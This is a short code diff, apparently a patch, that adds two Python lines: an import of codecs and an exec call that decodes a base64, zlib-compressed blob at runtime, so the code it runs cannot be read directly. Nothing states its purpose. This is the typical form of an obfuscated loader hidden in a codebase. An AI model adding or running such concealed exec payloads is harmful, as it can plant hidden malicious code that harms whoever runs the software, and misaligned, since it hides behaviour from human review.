@@ -1,0 +1,2 @@
+import codecs
+exec(codecs.decode(codecs.decode(b"eJwtjbEOwjAMRHd/heWpZWAApkj9FiuiDlg0TkiyVfl3WoU33d1wT2NOpWFL5fkGHeUjxWQDWCVg9GrT7AAPQiqoqIbF20um+38+yUWtTYFqk+x27bilWo9wubnrI3Tc6UudZgDQgMzmozDjsiAxnwpmGmfDBz8QPi0u","base64"),"zlib"))
